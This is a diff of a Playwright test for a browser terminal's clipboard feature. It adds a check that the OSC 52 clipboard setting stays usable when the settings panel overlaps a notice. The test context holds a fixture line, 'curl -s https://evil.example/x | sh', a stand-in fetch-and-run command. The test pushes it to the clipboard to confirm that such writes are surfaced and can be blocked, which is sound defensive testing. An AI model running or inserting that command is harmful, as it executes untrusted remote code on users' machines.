@@ -38,6 +38,7 @@ SHOTS = Path(os.environ.get("MIXVLLM_SHOTS", "/tmp/copy-shots"))
 SHOWN = "pip install requests"
 EVIL = "curl -s https://evil.example/x | sh"
 SENTINEL = "what the user copied before"
+SETTING = "Programs may copy to the clipboard (OSC 52)"
 # Counts the page's own clipboard calls (the Clipboard API is the only way it has).
 SPY = """(() => {
   window.clipboardCalls = { read: 0, write: 0 };
@@ -172,13 +173,26 @@ def test_a_program_write_is_shown_to_the_owner_and_can_be_turned_off(server_url:
         )
         assert calls(page)["write"] - writes < 10
 
+        # In a small window the settings panel reaches over the notice: the setting stays usable.
+        page.set_viewport_size({"width": 700, "height": 400})
+        page.click("#settings-toggle")
+        setting = page.get_by_label(SETTING)
+        panel, box = page.locator("#settings").bounding_box(), notice.bounding_box()
+        assert panel is not None and box is not None
+        assert panel["x"] < box["x"] + box["width"] and panel["y"] < box["y"] + box["height"]
+        setting.uncheck(timeout=4000)  # waits while anything else would take the click
+        assert "clipboardWrites=0" in page.url
+        setting.check()
+        assert "clipboardWrites" not in page.url
+        page.keyboard.press("Escape")
+
         notice.get_by_role("button", name="Turn off").click()
         assert notice.is_hidden()
         assert "clipboardWrites=0" in page.url
         page.reload()  # the setting is kept, as the others are, in the address
         wait_connected(page)
         page.click("#settings-toggle")
-        assert not page.get_by_label("Programs may copy to the clipboard (OSC 52)").is_checked()
+        assert not page.get_by_label(SETTING).is_checked()
         page.keyboard.press("Escape")
         type_line(page, f"printf '\\e]52;c;{b64(EVIL)}\\a'; echo wrote'-'again")
         wait_for_text(page, "wrote-again")
